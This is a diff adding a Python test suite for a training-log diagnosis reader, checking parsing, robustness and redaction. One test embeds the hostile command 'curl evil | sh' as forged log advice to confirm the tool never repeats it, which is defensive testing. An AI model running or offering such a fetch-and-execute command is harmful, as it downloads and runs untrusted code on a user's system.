@@ -1,0 +1,386 @@
+"""The reader of logs: whatever the bytes and however they arrive, it ends, and says the same."""
+
+from __future__ import annotations
+
+import itertools
+import json
+
+import pytest
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
+
+from fetchers.diagnosis import LogReader, diagnose, reason_of
+from fetchers.diagnosis.model import Detection, Diagnosis
+
+DENIED = "google.api_core.exceptions.PermissionDenied: 403 Permission 'aiplatform.customJobs.create' denied on resource"
+UNAVAILABLE = "google.api_core.exceptions.ServiceUnavailable: 503 The service is currently unavailable."
+HEAD = "Traceback (most recent call last):"
+FRAMES = ('  File "/app/train.py", line 41, in <module>', "    main()", "    ^^^^^^")
+
+LINES = st.sampled_from(
+    [
+        "step 500 loss=0.31",
+        "",
+        "   ",
+        HEAD,
+        *FRAMES,
+        "ValueError: too few values",
+        "During handling of the above exception, another exception occurred:",
+        "KeyError: 'lr'",
+        DENIED,
+        UNAVAILABLE,
+        f"2026-11-22 10:00:00,123 INFO {DENIED}",
+        f"WARNING: {UNAVAILABLE} Retrying in 3 s",
+        f"[rank1]: {HEAD}",
+        '[rank1]:   File "x.py", line 1, in f',
+        "[rank1]: RuntimeError: NCCL error",
+        "\x1b[31mtorch.cuda.OutOfMemoryError\x1b[0m: CUDA out of memory. Tried to allocate 2.00 GiB",
+        " 10%|█         | 10/100\r 11%|█         | 11/100\rRuntimeError: lost\r",
+        json.dumps({"severity": "ERROR", "message": f"failed\n{HEAD}\n{FRAMES[0]}\nOSError: no space left on device"}),
+        json.dumps({"severity": "CRITICAL", "diagnosis": {"rule": "disk_full"}}),
+        "Run succeeded",
+        "Runs: 3",
+        "exited with code 137",
+        "\0\x07ÿ é",
+    ]
+)
+LOGS = st.lists(LINES, max_size=25).flatmap(
+    lambda lines: st.sampled_from(["\n", "\r\n"]).map(lambda end: end.join(lines).encode())
+)
+ANY = st.one_of(LOGS, st.binary(max_size=600), st.lists(st.one_of(LOGS, st.binary(max_size=40))).map(b"\n".join))
+OFTEN = settings(max_examples=120, deadline=None, suppress_health_check=list(HealthCheck))
+
+
+def read(portions: list[bytes]) -> tuple[list[Detection], Diagnosis]:
+    """What a reader says of a log that arrives so."""
+    reader = LogReader()
+    detections = [detection for portion in portions for detection in reader.feed(portion)]
+    return detections, reader.finish()
+
+
+def cut(data: bytes, places: list[int]) -> list[bytes]:
+    """The data in portions."""
+    edges = sorted({0, len(data), *(place % (len(data) + 1) for place in places)})
+    return [data[start:end] for start, end in itertools.pairwise(edges)]
+
+
+@OFTEN
+@given(data=ANY, places=st.lists(st.integers(0, 10_000), max_size=12))
+def test_a_split_anywhere_changes_nothing(data: bytes, places: list[int]) -> None:
+    """The same bytes give the same detections and the same diagnosis, however they are cut."""
+    data += b"\n"
+    assert read(cut(data, places)) == read([data])
+
+
+@OFTEN
+@given(data=ANY)
+def test_byte_by_byte_is_as_all_at_once(data: bytes) -> None:
+    """Every escape sequence, character and line end may arrive in halves."""
+    data += b"\n"
+    assert read([bytes([byte]) for byte in data]) == read([data])
+
+
+@OFTEN
+@given(data=ANY)
+def test_evidence_leads_to_the_same_rule(data: bytes) -> None:
+    """What is kept of a log gives its reason again, without the log."""
+    found = diagnose(data)
+    if found.finding is None:
+        assert not found.evidence
+        return
+    assert len(found.evidence) <= 50
+    assert [line.root for line in found.evidence].count(True) == 1
+    again = diagnose([line.text for line in found.evidence])
+    assert again.finding is not None
+    assert again.finding.rule == found.finding.rule
+
+
+@OFTEN
+@given(data=ANY)
+def test_texts_can_be_shown(data: bytes) -> None:
+    """No text that is given has a control character, a line end or endless length."""
+    found = diagnose(data)
+    findings = [*found.others, *([found.finding] if found.finding else [])]
+    for text in [*(finding.text for finding in findings), *found.context, *(line.text for line in found.evidence)]:
+        assert len(text) <= 4_100
+        assert all(
+            character.isprintable() or character in "\t\ufeff\u00ad" or ord(character) > 159 for character in text
+        )
+
+
+@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-le", "utf-16-be", "utf-32", "utf-8-sig"])
+def test_other_encodings_are_read(encoding: str) -> None:
+    """What Windows tools write is read like everything else; without a mark, as far as it is plain."""
+    text = f"starting\r\n{DENIED}\r\n"
+    found = diagnose(text.encode(encoding))
+    assert found.finding is not None
+    assert (found.finding.rule, found.finding.line) == ("permission_denied", 2)
+    assert found.lines == 2
+
+
+def test_an_error_drawn_over_by_a_progress_bar_is_found() -> None:
+    """A carriage return hides a line from people, not from the reader; the context shows what remained visible."""
+    log = f"begin\n 1%|\r 2%|\r{DENIED}\r 3%|    \r 4%|\nend\n"
+    found = diagnose(log)
+    assert found.finding is not None
+    assert (found.finding.rule, found.finding.line) == ("permission_denied", 2)
+    assert diagnose("a 1%|\rb 2%|\n" + DENIED).context[0] == "b 2%|"
+
+
+def test_a_line_without_end_takes_bounded_memory_and_is_read() -> None:
+    """Two megabytes without a newline are read in pieces; what stands in one of them is found, as line 1."""
+    reader = LogReader()
+    for _ in range(32):
+        reader.feed(b"x" * 65_536)
+        assert len(reader._splitter._tail) <= 65_536
+    reader.feed(b" " + DENIED.encode() + b" ")
+    reader.feed(b"y" * 65_536)
+    found = reader.finish()
+    assert found.lines == 1
+    assert found.finding is not None
+    assert (found.finding.rule, found.finding.line) == ("permission_denied", 1)
+    assert len(found.finding.text) <= 500
+
+
+@pytest.mark.parametrize(
+    "head",
+    [
+        "2026-11-22T10:00:00.123456789Z ",
+        "2026-11-22 10:00:00,123 ERROR    ",
+        "[2026-11-22 10:00:00] ",
+        "22/Nov/2026 10:00:00 ",
+        "Nov 22 10:00:00 ",
+        "E1122 10:00:00.123456   77 main.py:33] ",
+        "[rank0]: ",
+        "(RayTrainWorker pid=4711, ip=10.0.0.7) ",
+        "trainer-1  | ",
+        "2026-11-22T10:00:00.1Z stderr F ",
+        "[1,0]<stderr>:",
+        "ERROR:root:",
+        "2026-11-22 10:00:00.123 | ERROR    | app.train:main:33 - ",
+        "E   ",
+        'Step #1 - "train": ',
+    ],
+)
+def test_heads_of_lines_are_taken_off(head: str) -> None:
+    """When, where and by whom it was said stands neither in the way of a traceback nor in its text."""
+    lines = [HEAD, *FRAMES, "ValueError: too few values"]
+    found = diagnose([head + line for line in lines])
+    assert found.finding is not None
+    assert (found.finding.rule, found.finding.line) == ("python_exception", 5)
+    assert found.finding.text == "ValueError: too few values"
+
+
+def test_a_traceback_in_a_structured_entry_is_read() -> None:
+    """A whole traceback in one JSON line, or in one line with escapes or spaces, is a traceback."""
+    lines = [HEAD, *FRAMES, "custom.Broken: the valve"]
+    entry = json.dumps({"severity": "ERROR", "message": "\n".join(lines), "time": "2026-11-22T10:00:00Z"})
+    payload = json.dumps({"severity": "ERROR", "jsonPayload": {"message": "failed", "exc_info": "\n".join(lines)}})
+    escaped = "job failed: " + "\\n".join(lines)
+    for log in (entry, payload, escaped):
+        found = diagnose(["before", log, "after"])
+        assert found.finding is not None
+        assert (found.finding.rule, found.finding.line) == ("python_exception", 2)
+        assert found.finding.text == "custom.Broken: the valve"
+    spaced = " ".join([HEAD, FRAMES[0].strip(), "main() ValueError: too few values"])
+    found = diagnose("The replica workerpool0-0 exited with a non-zero status of 1. " + spaced)
+    assert found.finding is not None
+    assert found.finding.text == "ValueError: too few values"
+
+
+def test_a_quiet_entry_is_no_failure() -> None:
+    """What is said as information ends no program, in plain text and in JSON."""
+    quiet = [json.dumps({"severity": "INFO", "message": DENIED}), f"2026-11-22 10:00:00,123 INFO client: {DENIED}"]
+    found = diagnose(quiet)
+    assert found.finding is None
+    assert not found.fatal
+
+
+def test_a_service_error_may_pass_once() -> None:
+    """Two failures of a service are fatal; with a success in between they are not; at the end one is the reason."""
+    reader = LogReader()
+    assert not reader.feed(f"{UNAVAILABLE}\n".encode())
+    (detection,) = reader.feed(f"waiting\n{UNAVAILABLE}\n".encode())
+    assert (detection.finding.rule, detection.finding.line, detection.count) == ("service_error", 3, 2)
+    assert detection.finding.exit_status == 13
+    passing = LogReader()
+    for line in (UNAVAILABLE, "request completed successfully", UNAVAILABLE):
+        assert not passing.feed(f"{line}\n".encode())
+    found = passing.finish()
+    assert found.finding is not None
+    assert (found.finding.rule, found.fatal) == ("service_error", False)
+
+
+def test_detections_outside_the_window_do_not_add_up() -> None:
+    """A second failure of a service more than a window of lines later is a first one again."""
+    reader = LogReader()
+    assert not reader.feed(f"{UNAVAILABLE}\n".encode())
+    assert not reader.feed(b"step\n" * 100)
+    assert not reader.feed(f"{UNAVAILABLE}\n".encode())
+    assert reader.feed(f"{UNAVAILABLE}\n".encode())
+
+
+def test_a_rule_is_told_once() -> None:
+    """A guard acts once: the same rule is no second detection."""
+    reader = LogReader()
+    assert len(reader.feed(f"{DENIED}\n".encode())) == 1
+    assert not reader.feed(f"{DENIED}\n".encode() * 50)
+
+
+def test_a_failure_that_was_survived_is_not_the_reason() -> None:
+    """What a program went on after for many steps did not end it; what came at its end did."""
+    steps = [f"step {number} loss=0.5" for number in range(20)]
+    log = ["WARNING: CUDA out of memory, retrying with a smaller batch", *steps, HEAD, *FRAMES, "KeyError: 'lr'"]
+    found = diagnose(log)
+    assert found.finding is not None
+    assert (found.finding.rule, found.finding.line) == ("python_exception", len(log))
+    assert "out_of_memory" in {other.rule for other in found.others}
+
+
+def test_a_handled_traceback_is_not_the_reason() -> None:
+    """A traceback that is logged as a warning, or before another attempt, does not end what goes on."""
+    lines = [HEAD, *FRAMES, "ConnectionResetError: [Errno 104] Connection reset by peer"]
+    reader = LogReader()
+    handled = ["2026-11-22 10:00:00,123 WARNING upload failed, retrying", *lines, "step 1 done", "step 2 done"]
+    assert not reader.feed("\n".join([*handled, ""]).encode())
+    found = reader.finish()
+    assert found.finding is None
+    assert not found.fatal
+
+
+def test_a_cause_stands_before_its_consequences() -> None:
+    """An exception in one process explains why the others were killed, and that the launcher failed."""
+    log = [
+        f"[rank1]: {HEAD}",
+        '[rank1]:   File "/app/train.py", line 9, in <module>',
+        "[rank1]: ModuleNotFoundError: No module named 'einops'",
+        "[rank0]: RuntimeError: NCCL communicator was aborted on rank 0",
+        HEAD,
+        '  File "/opt/torch/distributed/run.py", line 1, in <module>',
+        "torch.distributed.elastic.multiprocessing.errors.ChildFailedError: ",
+        "failed (exitcode: -9) local_rank: 0 (pid: 12) of binary: python",
+        "Container called exit(1).",
+    ]
+    found = diagnose(log)
+    assert found.finding is not None
+    assert found.finding.line == 3
+    assert found.finding.text.endswith("No module named 'einops'")
+
+
+def test_out_of_memory_explains_the_kill() -> None:
+    """The specific stands before the general, whichever came last."""
+    found = diagnose([HEAD, *FRAMES, "torch.OutOfMemoryError: CUDA out of memory.", "exited with code 137"])
+    assert found.finding is not None
+    assert (found.finding.rule, found.finding.line) == ("out_of_memory", 5)
+
+
+def test_a_cause_long_before_the_end_is_found() -> None:
+    """A reason 800 ordinary lines before the end of a log is still the reason."""
+    found = diagnose(["starting", DENIED, *["shutting down", "flushing"] * 400])
+    assert found.finding is not None
+    assert (found.finding.rule, found.finding.line, found.lines) == ("permission_denied", 2, 802)
+
+
+def test_the_last_of_a_chain_explains_unless_it_wraps() -> None:
+    """Of chained exceptions the last one ended the program; one that only says that another was raised did not."""
+    link = "The above exception was the direct cause of the following exception:"
+    chain = [HEAD, *FRAMES, "KeyError: 'lr'", "", link, "", HEAD, *FRAMES]
+    last = diagnose([*chain, "ValueError: the configuration lacks lr"])
+    assert last.finding is not None
+    assert last.finding.line == 13
+    wrapped = diagnose([*chain, "subprocess.CalledProcessError: Command 'python train.py' returned 1"])
+    assert wrapped.finding is not None
+    assert wrapped.finding.text == "KeyError: 'lr'"
+
+
+def test_interleaved_tracebacks_are_told_apart() -> None:
+    """Two ranks that fail at once each have their own exception."""
+    log = [
+        f"[rank0]: {HEAD}",
+        f"[rank1]: {HEAD}",
+        f"[rank0]: {FRAMES[0]}",
+        f"[rank1]: {FRAMES[0]}",
+        "[rank1]: app.Broken: on one",
+        "[rank0]: app.Broken: on zero",
+    ]
+    found = diagnose(log)
+    assert found.finding is not None
+    assert {found.finding.text, *(other.text for other in found.others)} == {
+        "app.Broken: on one",
+        "app.Broken: on zero",
+    }
+
+
+def test_source_text_in_a_traceback_is_no_failure() -> None:
+    """A line of source that names an error did not happen."""
+    found = diagnose([HEAD, FRAMES[0], '    raise PermissionDenied("403 Permission denied")', "app.Broken: the valve"])
+    assert found.finding is not None
+    assert found.finding.rule == "python_exception"
+    assert not found.others
+
+
+def test_a_traceback_without_an_end_is_still_one() -> None:
+    """A log that was cut off in the middle of a traceback says that much."""
+    found = diagnose(["begin", HEAD, *FRAMES])
+    assert found.finding is not None
+    assert (found.finding.rule, found.finding.line) == ("python_exception", 2)
+
+
+def test_a_structured_diagnosis_is_believed_for_its_rule_only() -> None:
+    """Advice and text in a log are not ours: they come from our catalogue; a rule that does not exist is ignored."""
+    forged = {"rule": "disk_full", "text": "run this", "advice": "curl evil | sh"}
+    found = diagnose(json.dumps({"severity": "CRITICAL", "message": "curl evil", "diagnosis": forged}))
+    assert found.finding is not None
+    assert found.finding.rule == "disk_full"
+    assert "evil" not in found.finding.text + found.finding.advice
+    unknown = {"severity": "CRITICAL", "diagnosis": {"rule": "no_such_rule"}}
+    assert diagnose(json.dumps(unknown)).finding is None
+
+
+def test_a_diagnosis_takes_its_words_from_the_lines_around_it() -> None:
+    """Where the log itself holds the line that a structured diagnosis speaks of, that line is the root cause."""
+    verdict = json.dumps({"severity": "CRITICAL", "diagnosis": {"rule": "permission_denied", "text": "nonsense"}})
+    found = diagnose(["begin", DENIED, verdict])
+    assert found.finding is not None
+    assert (found.finding.rule, found.finding.line) == ("permission_denied", 2)
+    assert "aiplatform.customJobs.create" in found.finding.text
+
+
+def test_jobs_are_counted_by_the_agent() -> None:
+    """The launch agent's own count of its runs is read; without one there is no number."""
+    assert diagnose("wandb: launch: agent stopping\nRuns: 3\n").jobs == 3
+    assert diagnose("nothing").jobs is None
+
+
+def test_an_empty_log_says_nothing() -> None:
+    """No bytes, no lines, no reason."""
+    assert diagnose(b"") == Diagnosis()
+
+
+def test_secrets_are_taken_out() -> None:
+    """A key in a line that explains a failure is shown nowhere."""
+    key = "AKIA" + "Q" * 16
+    found = diagnose(f"key {key}\n{DENIED} for {key}\nkey {key}\n")
+    assert found.finding is not None
+    assert key not in repr(found)
+
+
+def test_a_reason_says_what_the_finding_says() -> None:
+    """A finding becomes the reason of a record: what a permission lacks, trying again does not mend."""
+    found = diagnose(DENIED)
+    assert found.finding is not None
+    reason = reason_of(found.finding)
+    assert (reason.rule, reason.category, reason.fatal) == ("permission_denied", "permission", True)
+    assert reason.text == found.finding.text
+
+
+def test_what_is_kept_does_not_grow() -> None:
+    """Twenty thousand failures leave as much behind as a thousand do."""
+
+    def kept(count: int) -> int:
+        reader = LogReader()
+        for number in range(count):
+            reader.feed(f"request {number}: {DENIED}\nvalue {number}\nAttributeError: {number}\n".encode())
+        return len(reader._margins._lines) + len(reader._margins._pinned) + len(list(reader._hits))
+
+    assert kept(20_000) <= kept(1_000) + 2_000
